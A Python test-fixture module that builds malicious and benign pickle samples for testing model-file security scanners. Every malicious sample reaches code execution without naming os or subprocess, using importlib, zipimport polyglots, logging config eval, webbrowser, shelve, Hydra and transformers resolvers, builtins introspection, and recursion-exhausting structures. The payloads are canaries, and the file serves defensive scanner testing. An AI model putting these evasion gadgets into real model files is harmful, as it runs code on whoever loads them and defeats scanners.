"""Round 4: callables named in scanner fixes and reports of 2025-2026 that the earlier
rounds do not hold.

Module loaders that run a .py beside the model (importlib spec and loader chain, zipimport,
transformers' dynamic modules), logging configuration that resolves and calls names or
evaluates arguments, webbrowser command lines, SQLite and archive constructors that create
files, and shelve stores whose values are unpickled on lookup. Each sample is a pickle that
reaches the payload without naming os, subprocess, builtins.exec or eval in a GLOBAL.
"""

from __future__ import annotations

import collections
import io
import json
import pickle
import tarfile
import zipfile
from pathlib import Path

import _pk
from _pk import Raw
from registry import Canary, benign, sample


def _stream(*ops: bytes) -> bytes:
    return _pk.proto(4) + b"".join(ops) + pickle.STOP


def _module_source(c: Canary) -> str:
    return f"{c.py}\n\n\nclass Head:\n    pass\n"


# --- importlib spec and loader chain (picklescan #66) -------------------------------------


@sample("importlib-spec-bootstrap-load", "picklescan-66-importlib-spec-chain")
def _spec_load(out: Path, c: Canary) -> None:
    """importlib._bootstrap._load(importlib.util.spec_from_file_location(name, side.py))."""
    side = out.with_name("modeling_head.py")
    side.write_text(_module_source(c))
    spec = _pk.call(
        _pk.stack_global("importlib.util", "spec_from_file_location"), "modeling_head", str(side)
    )
    out.write_bytes(_stream(_pk.call(_pk.stack_global("importlib._bootstrap", "_load"), Raw(spec))))


@sample("importlib-sourcefileloader-load-module", "picklescan-66-importlib-spec-chain")
def _source_loader(out: Path, c: Canary) -> None:
    """SourceFileLoader(name, side.py), then the unbound SourceFileLoader.load_module on it."""
    side = out.with_name("tokenization_head.py")
    side.write_text(_module_source(c))
    loader = _pk.call(
        _pk.stack_global("importlib.machinery", "SourceFileLoader"), "tokenization_head", str(side)
    )
    fn = _pk.stack_global("importlib.machinery", "SourceFileLoader.load_module")
    out.write_bytes(_stream(_pk.call(fn, Raw(loader))))


@benign("importlib-names-as-data-clean", "picklescan-66-importlib-spec-chain")
def _spec_clean(out: Path, c: Canary) -> None:
    """A config that names a module loader and a .py file as plain strings."""
    cfg = collections.OrderedDict(
        loader="importlib.machinery.SourceFileLoader",
        module="modeling_head.py",
        spec_from_file_location=True,
        hidden=[64, 64],
    )
    out.write_bytes(pickle.dumps(cfg, protocol=4))


# --- zipimport ----------------------------------------------------------------------------


def _zip_with_module(name: str, source: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(f"{name}.py", source)
    return buf.getvalue()


@sample("zipimport-side-zip", "modelaudit-zipimport")
def _zipimport_side(out: Path, c: Canary) -> None:
    """zipimporter(side.zip).load_module('head'): runs head.py from the archive."""
    side = out.with_name("extras.zip")
    side.write_bytes(_zip_with_module("head", _module_source(c)))
    imp = _pk.call(_pk.stack_global("zipimport", "zipimporter"), str(side))
    fn = _pk.stack_global("zipimport", "zipimporter.load_module")
    out.write_bytes(_stream(_pk.call(fn, Raw(imp), "head")))


@sample("zipimport-self-polyglot", "modelaudit-zipimport")
def _zipimport_self(out: Path, c: Canary) -> None:
    """The pickle imports from its own file: a ZIP with the module is appended after STOP,
    and zipimport finds the archive by its end record, whatever comes before it."""
    imp = _pk.call(_pk.stack_global("zipimport", "zipimporter"), str(out))
    fn = _pk.stack_global("zipimport", "zipimporter.load_module")
    head = _stream(_pk.call(fn, Raw(imp), "weights_head"))
    out.write_bytes(head + _zip_with_module("weights_head", _module_source(c)))


# --- logging configuration ----------------------------------------------------------------


@sample("logging-dictconfig-factory", "modelaudit-logging-config")
def _dictconfig(out: Path, c: Canary) -> None:
    """dictConfig resolves the handler factory named by '()' and calls it with the keys."""
    cfg = {
        "version": 1,
        "handlers": {"audit": {"()": "subprocess.call", "args": c.argv}},
        "root": {"handlers": ["audit"]},
    }
    out.write_bytes(_stream(_pk.call(_pk.stack_global("logging.config", "dictConfig"), cfg)))


@sample("logging-fileconfig-eval", "modelaudit-logging-config")
def _fileconfig(out: Path, c: Canary) -> None:
    """fileConfig(side.ini) evaluates each handler's args= line with eval()."""
    side = out.with_name("logging.ini")
    side.write_text(
        "[loggers]\nkeys=root\n\n[handlers]\nkeys=h\n\n[formatters]\nkeys=\n\n"
        "[logger_root]\nlevel=INFO\nhandlers=h\n\n"
        "[handler_h]\nclass=StreamHandler\n"
        f"args=(__import__('os').system({json.dumps(c.shell)}) and None,)\n"
    )
    out.write_bytes(_stream(_pk.call(_pk.stack_global("logging.config", "fileConfig"), str(side))))


@benign("logging-config-dict-clean", "modelaudit-logging-config")
def _dictconfig_clean(out: Path, c: Canary) -> None:
    """A training run's saved logging configuration, kept as data."""
    cfg = {
        "version": 1,
        "formatters": {"plain": {"()": "logging.Formatter", "fmt": "%(message)s"}},
        "handlers": {"console": {"class": "logging.StreamHandler", "formatter": "plain"}},
        "root": {"level": "INFO", "handlers": ["console"]},
    }
    out.write_bytes(pickle.dumps({"logging": cfg, "epochs": 3, "lr": 0.001}, protocol=4))


# --- webbrowser ---------------------------------------------------------------------------


@sample("webbrowser-generic-open", "modelaudit-webbrowser")
def _browser_generic(out: Path, c: Canary) -> None:
    """GenericBrowser([cmd, args...]).open(url) runs the command line and waits for it."""
    inst = _pk.call(_pk.stack_global("webbrowser", "GenericBrowser"), c.argv)
    fn = _pk.stack_global("webbrowser", "GenericBrowser.open")
    out.write_bytes(_stream(_pk.call(fn, Raw(inst), "https://example.org/model-card")))


@sample("webbrowser-get-command", "modelaudit-webbrowser")
def _browser_get(out: Path, c: Canary) -> None:
    """webbrowser.get('touch %s') builds a browser from a command line; open(url) fills %s."""
    inst = _pk.call(_pk.stack_global("webbrowser", "get"), "touch %s")
    fn = _pk.stack_global("webbrowser", "GenericBrowser.open")
    out.write_bytes(_stream(_pk.call(fn, Raw(inst), str(c.path))))


@benign("webbrowser-url-clean", "modelaudit-webbrowser")
def _browser_clean(out: Path, c: Canary) -> None:
    """A model card dict with links, one of them under a 'webbrowser' key."""
    card = {
        "homepage": "https://example.org/model",
        "webbrowser": "open https://example.org/docs in your browser",
        "license": "apache-2.0",
        "metrics": {"accuracy": 0.91},
    }
    out.write_bytes(pickle.dumps(card, protocol=4))


# --- SQLite -------------------------------------------------------------------------------


@sample("sqlite3-connect-create", "modelaudit-sqlite3-file")
def _sqlite_connect(out: Path, c: Canary) -> None:
    """sqlite3.connect(path) creates the file (an empty database) wherever the path says."""
    out.write_bytes(_stream(_pk.call(_pk.stack_global("sqlite3", "connect"), str(c.path))))


@sample("sqlite3-vacuum-into", "modelaudit-sqlite3-file")
def _sqlite_vacuum(out: Path, c: Canary) -> None:
    """An in-memory connection, then Connection.execute("VACUUM INTO 'path'") writes a file."""
    conn = _pk.call(_pk.stack_global("sqlite3", "connect"), ":memory:")
    fn = _pk.stack_global("sqlite3", "Connection.execute")
    sql = "VACUUM INTO '" + str(c.path).replace("'", "''") + "'"
    out.write_bytes(_stream(_pk.call(fn, Raw(conn), sql)))


@benign("sqlite-run-registry-clean", "modelaudit-sqlite3-file")
def _sqlite_clean(out: Path, c: Canary) -> None:
    """Experiment metadata with a SQLite tracking URI, as a string."""
    import numpy as np

    meta = {
        "tracking_uri": "sqlite:///mlruns.db",
        "run_id": "3f2a9c",
        "weights": np.arange(6, dtype=np.float32).reshape(2, 3),
    }
    out.write_bytes(pickle.dumps(meta, protocol=4))


# --- shelve -------------------------------------------------------------------------------


def _shelf(side: Path, value: object) -> None:
    import dbm.dumb
    import shelve

    with dbm.dumb.open(str(side), "c") as db, shelve.Shelf(db, protocol=4) as s:
        s["weights"] = value  # the stored value is pickled here, not run


@sample("shelve-open-getitem", "modelaudit-shelve-nested")
def _shelve_getitem(out: Path, c: Canary) -> None:
    """shelve.open(side store), then Shelf.__getitem__: the stored value is unpickled."""
    side = out.with_name("cache")
    _shelf(side, _pk.Reduce(exec, c.py, {}))
    shelf = _pk.call(_pk.stack_global("shelve", "open"), str(side), "r")
    fn = _pk.stack_global("shelve", "Shelf.__getitem__")
    out.write_bytes(_stream(_pk.call(fn, Raw(shelf), "weights")))


@sample("shelve-dbfilename-get", "modelaudit-shelve-nested")
def _shelve_get(out: Path, c: Canary) -> None:
    """shelve.DbfilenameShelf(side store) built directly, then the inherited Shelf.get."""
    side = out.with_name("features")
    _shelf(side, _pk.Reduce(exec, c.py, {}))
    shelf = _pk.call(_pk.stack_global("shelve", "DbfilenameShelf"), str(side), "r")
    fn = _pk.stack_global("shelve", "Shelf.get")
    out.write_bytes(_stream(_pk.call(fn, Raw(shelf), "weights")))


@benign("shelve-folder-clean", "modelaudit-shelve-nested")
def _shelve_clean(out: Path, c: Canary) -> None:
    """A plain state dict beside a shelve store that holds plain numbers."""
    _shelf(out.with_name("cache"), {"step": 10, "loss": [0.5, 0.25]})
    state = collections.OrderedDict(step=10, cache="cache", layers=[4, 4])
    out.write_bytes(pickle.dumps(state, protocol=4))


# --- archive constructors that write ------------------------------------------------------


@sample("zipfile-write-mode-create", "modelaudit-archive-write")
def _zip_write(out: Path, c: Canary) -> None:
    """zipfile.ZipFile(path, 'w') opens (creates) the file at construction."""
    out.write_bytes(_stream(_pk.call(_pk.stack_global("zipfile", "ZipFile"), str(c.path), "w")))


@sample("tarfile-extractall-side", "modelaudit-archive-write")
def _tar_extract(out: Path, c: Canary) -> None:
    """tarfile.open(side.tar), then the unbound TarFile.extractall(folder) writes its members."""
    side = out.with_name("assets.tar")
    data = b"fired"
    with tarfile.open(side, "w") as tar:
        info = tarfile.TarInfo(c.path.name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    tf = _pk.call(_pk.stack_global("tarfile", "open"), str(side))
    fn = _pk.stack_global("tarfile", "TarFile.extractall")
    out.write_bytes(_stream(_pk.call(fn, Raw(tf), str(c.path.parent))))


@benign("tar-side-data-clean", "modelaudit-archive-write")
def _tar_clean(out: Path, c: Canary) -> None:
    """A state dict that names its data archive as a string, beside that archive."""
    side = out.with_name("assets.tar")
    with tarfile.open(side, "w") as tar:
        info = tarfile.TarInfo("vocab.txt")
        payload = b"a\nb\nc\n"
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    state = collections.OrderedDict(assets="assets.tar", format="zipfile.ZipFile", dims=[3])
    out.write_bytes(pickle.dumps(state, protocol=4))


# --- transformers dynamic modules ---------------------------------------------------------


@sample("hf-get-class-in-module", "transformers-dynamic-module-gadgets")
def _hf_class_in_module(out: Path, c: Canary) -> None:
    """get_class_in_module(name, /abs/path.py): the cache folder joined with an absolute path
    is that path, and the module is executed."""
    side = out.with_name("modeling_custom.py")
    side.write_text(_module_source(c))
    fn = _pk.stack_global("transformers.dynamic_module_utils", "get_class_in_module")
    out.write_bytes(_stream(_pk.call(fn, "Head", str(side))))


@sample("hf-get-class-from-dynamic-module", "transformers-dynamic-module-gadgets")
def _hf_class_from_dynamic(out: Path, c: Canary) -> None:
    """get_class_from_dynamic_module('modeling_custom.Head', folder): copies the .py into the
    modules cache and imports it, with no trust_remote_code question asked."""
    side = out.with_name("modeling_custom.py")
    side.write_text(_module_source(c))
    out.with_name("config.json").write_text(json.dumps({"model_type": "custom"}))
    fn = _pk.stack_global("transformers.dynamic_module_utils", "get_class_from_dynamic_module")
    out.write_bytes(_stream(_pk.call(fn, "modeling_custom.Head", str(out.parent))))


@benign("hf-auto-map-strings-clean", "transformers-dynamic-module-gadgets")
def _hf_clean(out: Path, c: Canary) -> None:
    """A pickled config dict with an auto_map that names a module and class as strings."""
    cfg = {
        "model_type": "custom",
        "auto_map": {"AutoModel": "modeling_custom.Head"},
        "hidden_size": 64,
    }
    out.write_bytes(pickle.dumps(collections.OrderedDict(cfg), protocol=4))


# --- a class built by builtins.type with a protocol hook under a computed name --------------


def _hook_class(key: bytes) -> bytes:
    """type('Checkpoint', (PosixPath,), {<key>: Path.touch}): the key is computed at load."""
    namespace = pickle.MARK + key + _pk.stack_global("pathlib", "Path.touch") + pickle.DICT
    bases = _pk.stack_global("pathlib", "PosixPath") + pickle.TUPLE1
    return (
        _pk.stack_global("builtins", "type")
        + pickle.MARK
        + _pk.body("Checkpoint")
        + bases
        + namespace
        + pickle.TUPLE
        + pickle.REDUCE
    )


@sample("type-hook-del-join", "modelaudit-1375-dynamic-type-hook")
def _type_hook_join(out: Path, c: Canary) -> None:
    """'__del__' built by str.join; the instance is dropped and __del__ touches its path."""
    key = _pk.call(_pk.stack_global("builtins", "str.join"), "", ["__d", "el", "__"])
    inst = _pk.call(_hook_class(key), str(c.path))
    out.write_bytes(_pk.proto(4) + inst + pickle.POP + pickle.NONE + pickle.STOP)


@sample("type-hook-del-format", "modelaudit-1375-dynamic-type-hook")
def _type_hook_format(out: Path, c: Canary) -> None:
    """The same hook, its name built by str.format from fragments."""
    key = _pk.call(_pk.stack_global("builtins", "str.format"), "{0}{1}{0}", "__", "del")
    inst = _pk.call(_hook_class(key), str(c.path))
    out.write_bytes(_pk.proto(4) + inst + pickle.POP + pickle.NONE + pickle.STOP)


# --- builtins-only introspection chain (every GLOBAL names builtins) ------------------------


def _builtins_set(name: str, value: bytes) -> bytes:
    """builtins.__setattr__(name, value), result dropped: parks an object under builtins."""
    return _pk.call(_pk.stack_global("builtins", "__setattr__"), name, Raw(value)) + pickle.POP


@sample("builtins-walk-loader-posix", "modelscan-338-builtins-introspection")
def _walk_loader(out: Path, c: Canary) -> None:
    """builtins __loader__.load_module('posix') parked as builtins.rt_px, then rt_px.system."""
    px = _pk.call(_pk.stack_global("builtins", "__loader__.load_module"), "posix")
    run = _pk.call(_pk.stack_global("builtins", "rt_px.system"), c.shell)
    out.write_bytes(_stream(_builtins_set("rt_px", px), run))


@sample("builtins-walk-sys-modules", "modelscan-338-builtins-introspection")
def _walk_sys(out: Path, c: Canary) -> None:
    """exit.__init__.__globals__['sys'], then sys.modules['os'], each parked under builtins."""
    sys_mod = _pk.call(_pk.stack_global("builtins", "exit.__init__.__globals__.__getitem__"), "sys")
    os_mod = _pk.call(_pk.stack_global("builtins", "rt_sys.modules.__getitem__"), "os")
    run = _pk.call(_pk.stack_global("builtins", "rt_os2.system"), c.shell)
    out.write_bytes(_stream(_builtins_set("rt_sys", sys_mod), _builtins_set("rt_os2", os_mod), run))


@benign("builtins-plain-containers-clean", "modelscan-338-builtins-introspection")
def _builtins_clean(out: Path, c: Canary) -> None:
    """Builtins a genuine pickle names: set, frozenset, bytearray, complex, slice."""
    obj = {
        "ids": {1, 2, 3},
        "frozen": frozenset({"a"}),
        "raw": bytearray(b"\x00\x01"),
        "z": complex(1, 2),
        "window": slice(0, 8, 2),
    }
    out.write_bytes(pickle.dumps(obj, protocol=2))


# --- ML-library resolvers that turn a dotted string into a callable -----------------------


@sample(
    "hydra-instantiate-target",
    "ml-library-string-resolvers",
    note="hydra-core 1.3.8 (the fire environment) refuses targets outside its target policy",
)
def _hydra_instantiate(out: Path, c: Canary) -> None:
    """hydra.utils.instantiate({'_target_': 'subprocess.call', '_args_': [argv]}) from a pickle."""
    cfg = {"_target_": "subprocess.call", "_args_": [c.argv]}
    out.write_bytes(_stream(_pk.call(_pk.stack_global("hydra.utils", "instantiate"), cfg)))


@sample("hydra-get-method", "ml-library-string-resolvers")
def _hydra_get_method(out: Path, c: Canary) -> None:
    """hydra.utils.get_method('os.system') returns the function; REDUCE calls it."""
    fn = _pk.call(_pk.stack_global("hydra.utils", "get_method"), "os.system")
    out.write_bytes(_stream(_pk.call(fn, c.shell)))


@sample("hydra-locate-private", "ml-library-string-resolvers")
def _hydra_locate(out: Path, c: Canary) -> None:
    """hydra._internal.utils._locate('posix.system'): the private resolver behind both."""
    fn = _pk.call(_pk.stack_global("hydra._internal.utils", "_locate"), "posix.system")
    out.write_bytes(_stream(_pk.call(fn, c.shell)))


@benign("hydra-config-dict-clean", "ml-library-string-resolvers")
def _hydra_clean(out: Path, c: Canary) -> None:
    """A saved Hydra config as plain data: _target_ strings that are never instantiated."""
    cfg = {
        "model": {"_target_": "torch.nn.Linear", "in_features": 8, "out_features": 2},
        "optim": {"_target_": "torch.optim.AdamW", "lr": 0.0003},
    }
    out.write_bytes(pickle.dumps(cfg, protocol=4))


# --- getattr-like helpers in ML packages, on a module reached through its package --------


@sample("transformers-getattribute-from-module", "modelscan-338-getattr-helpers")
def _hf_getattribute(out: Path, c: Canary) -> None:
    """getattribute_from_module(auto_factory module, 'os'), then (os, 'system'): the module
    object comes from GLOBAL transformers.models.auto / auto_factory."""
    helper = _pk.stack_global("transformers.models.auto.auto_factory", "getattribute_from_module")
    module = _pk.stack_global("transformers.models.auto", "auto_factory")
    os_mod = _pk.call(helper, Raw(module), "os")
    fn = _pk.call(helper, Raw(os_mod), "system")
    out.write_bytes(_stream(_pk.call(fn, c.shell)))


@sample("torch-fx-get-attr", "modelscan-338-getattr-helpers")
def _fx_get_attr(out: Path, c: Canary) -> None:
    """torch.fx.graph_module._get_attr(module, 'torch.os.system') walks a dotted path."""
    helper = _pk.stack_global("torch.fx.graph_module", "_get_attr")
    module = _pk.stack_global("torch.fx", "graph_module")
    fn = _pk.call(helper, Raw(module), "torch.os.system")
    out.write_bytes(_stream(_pk.call(fn, c.shell)))


@benign("torch-state-dict-clean", "modelscan-338-getattr-helpers", loader="torch", name="model.pt")
def _torch_clean(out: Path, c: Canary) -> None:
    """An ordinary torch.save state dict."""
    import torch

    torch.save(torch.nn.Linear(4, 2).state_dict(), out)


# --- structures that exhaust a scanner's recursion, with the payload already run ----------


def _payload(c: Canary) -> bytes:
    return _pk.call(_pk.glob("posix", "system"), c.shell) + pickle.POP


@sample("cyclic-list-after-payload", "fickling-196-cyclic-structures")
def _cyclic(out: Path, c: Canary) -> None:
    """The payload, then L = []; L.append(L) (and a dict that holds itself) as the result."""
    cyc = (
        pickle.EMPTY_LIST + pickle.MEMOIZE + pickle.BINGET + b"\x00" + pickle.APPEND
        + pickle.EMPTY_DICT + pickle.MEMOIZE + _pk.body("self") + pickle.MEMOIZE
        + pickle.BINGET + b"\x01" + pickle.SETITEM + pickle.TUPLE2
    )  # fmt: skip
    out.write_bytes(_pk.proto(4) + _payload(c) + cyc + pickle.STOP)


@sample("deep-nesting-after-payload", "fickling-196-cyclic-structures")
def _deep(out: Path, c: Canary) -> None:
    """The payload, then lists nested 200,000 deep: the unpickler is iterative, tree walkers
    that recurse are not."""
    depth = 200_000
    nest = pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)
    out.write_bytes(_pk.proto(4) + _payload(c) + nest + pickle.STOP)


@benign("cyclic-graph-clean", "fickling-196-cyclic-structures")
def _cyclic_clean(out: Path, c: Canary) -> None:
    """A vocabulary graph whose nodes point back at each other, as pickle writes it."""
    a: dict[str, object] = {"token": "a"}
    b: dict[str, object] = {"token": "b", "next": a}
    a["next"] = b
    out.write_bytes(pickle.dumps({"nodes": [a, b], "size": 2}, protocol=4))
